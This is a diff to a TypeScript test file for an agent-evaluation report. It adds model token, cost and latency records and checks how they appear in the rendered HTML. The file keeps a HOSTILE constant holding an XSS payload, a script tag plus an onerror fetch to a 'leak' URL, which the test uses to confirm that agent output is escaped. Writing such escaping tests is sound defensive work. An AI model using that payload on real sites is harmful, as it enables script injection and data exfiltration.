@@ -11,7 +11,7 @@ import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { pathToFileURL } from 'node:url';
 import type { NodeVerdict } from '../../server/src/predicates/evaluate.ts';
-import { openRun, RUN_RECORD_VERSION, workUnitKey, type RunRecord } from '../../server/src/runner/store.ts';
+import { openRun, RUN_RECORD_VERSION, workUnitKey, type ModelRecord, type RunRecord } from '../../server/src/runner/store.ts';
 import type { CallRecord, EpisodeResult } from '../../server/src/runner/types.ts';
 import { computeScores } from '../../server/src/scoring/metrics.ts';
 import { renderJunit, verdictText, writeReport, xmlEscape, type ReportJson } from '../../server/src/scoring/report.ts';
@@ -23,7 +23,9 @@ const config: RunRecord = {
   kind: 'run',
   run_id: 'run-2026-05-01-test',
   agent: 'reference',
-  agent_options: {},
+  // A model agent's options are its resolved settings.
+  agent_options: { base_url: 'http://127.0.0.1:8080/v1', model: 'qwen-7b', temperature: 0.2, seed: 7, max_turns: 50, system_prompt: 'Be brief <b>.', tool_call_format: 'auto', prices: { file: 'prices.json', currency: 'EUR', model: { input: 1, output: 2 } } },
+  max_cost: 5,
   fault_profile: 'light',
   seed: 7,
   task_files: [],
@@ -34,6 +36,25 @@ const config: RunRecord = {
   concurrency: 1,
   sandbox: 'process',
 };
+
+/** A model record: 1,000 prompt tokens (400 cached) and 200 completion tokens at EUR 1 / 2 per million = 0.0014. */
+const modelRecord = (latency: number[]): ModelRecord => ({
+  protocol: 'openai',
+  model: 'qwen-7b',
+  requests: latency.length,
+  turns: latency.length,
+  retries: 0,
+  prompt_tokens: 1000,
+  completion_tokens: 200,
+  cached_tokens: 400,
+  cache_write_tokens: 0,
+  responses_without_usage: 0,
+  cost: 0.0014,
+  currency: 'EUR',
+  turn_latency_ms: latency,
+  calls: [{ turn: 0, format: 'hermes', name: 'support_refund', status: 'malformed', problem: 'bad-json' }, { turn: 1, format: 'hermes', name: 'support_refund', status: 'sent' }],
+  end: 'answer',
+});
 
 const HOSTILE = `<script>window.__xss = 1</script><img src="http://example.com/x.png" onerror="fetch('http://example.com/leak')"> & ]]> "q" 'a'`;
 
@@ -143,6 +164,8 @@ const results: EpisodeResult[] = [
     errors_seen: 1,
     tool_calls: 2,
     calls: [call(0, 'support_refund', { status: 'fault', fault: { type: 'SoftRateLimit', executed: false, detail: 'retry-after 1 s' } }), call(1, 'support_refund')],
+    model: modelRecord([300, 500]),
+    malformed_calls: 1,
   }),
   episode({
     task_id: 'sup-crash',
@@ -373,6 +396,22 @@ test('report.html in headless Chromium: plots drawn, trace viewer expands, nothi
     assert.ok((await target.locator('table.calls').innerText()).includes('<script>window.__xss = 1</script>'), 'agent output shown as text');
     assert.equal(await page.evaluate(() => (globalThis as unknown as { __xss?: number }).__xss), undefined, 'agent output never runs');
     assert.equal(await page.locator('#episode-list img').count(), 0);
+
+    // A model agent's spending: tokens, cost, cost per passed task (3 passed), latency, malformed calls, settings.
+    const cards = Object.fromEntries(
+      await page.$$eval('#summary .card', (nodes) => nodes.map((n) => [n.querySelector('.label')!.textContent, n.querySelector('.value')!.textContent])),
+    );
+    assert.deepEqual(
+      [cards['Tokens'], cards['Cost'], cards['Cost per passed task'], cards['Model latency per turn'], cards['Malformed calls']],
+      ['1,200', 'EUR 0.0014', 'EUR 0.0005', '400 ms', '6.3%'],
+      'malformed: 1 of 15 gateway calls + 1',
+    );
+    const settings = await page.locator('#agent-settings').innerText();
+    assert.match(settings, /model qwen-7b · temperature 0\.2 · seed 7/);
+    assert.match(settings, /prices prices\.json · max_cost 5/);
+    const sup = episodes.filter({ hasText: 'sup-retry' });
+    await sup.locator('summary').click();
+    assert.match(await sup.locator('.trace').innerText(), /qwen-7b · 2 turns, 2 requests · 1200 tokens \(prompt 1000, completion 200\) · EUR 0\.0014 · 1 malformed calls · formats hermes · ended: answer/);
 
     const screenshot = join(dirname(output.files.html), 'report.png');
     await page.screenshot({ path: screenshot, fullPage: true });
